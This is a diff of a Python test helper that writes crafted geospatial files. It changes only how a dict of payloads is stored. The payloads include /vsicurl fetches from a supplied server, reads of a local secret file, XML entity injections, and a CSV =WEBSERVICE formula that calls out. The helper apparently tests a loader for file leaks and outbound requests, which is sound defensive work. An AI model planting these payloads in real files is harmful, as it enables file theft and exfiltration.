@@ -83,7 +83,7 @@ def crafted(folder: Path, server: str, secret: Path) -> dict[str, Path]:
     curl = f"/vsicurl/{server}/a.geojson"
     leak = GEOCODE.format("pass", server)
     quoted = leak.replace("'", "''")
-    for name, what in {
+    told: dict[str, str | bytes | dict[str, Any]] = {
         "pipeline.geojson": _pipeline(PIPELINE.format(curl)),
         "pipeline_file.geojson": _pipeline(PIPELINE.format(secret)),
         "pipeline_sql.geojson": _pipeline(
@@ -128,7 +128,8 @@ def crafted(folder: Path, server: str, secret: Path) -> dict[str, Path]:
         "entities.gpx": ENTITY.format("gpx", secret, server),
         "word.fgb": b"fgb\x03fgb\x01" + VRT.format(f"{server}/a.geojson").encode(),
         "link.csv": f'name,lat,lon\n=WEBSERVICE("{server}/x"),{curl},{secret}\n',
-    }.items():
+    }
+    for name, what in told.items():
         text = json.dumps(what) if isinstance(what, dict) else what
         (folder / name).write_bytes(text if isinstance(text, bytes) else str(text).encode())
     one = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(-73.5, 45)], crs="EPSG:4326")
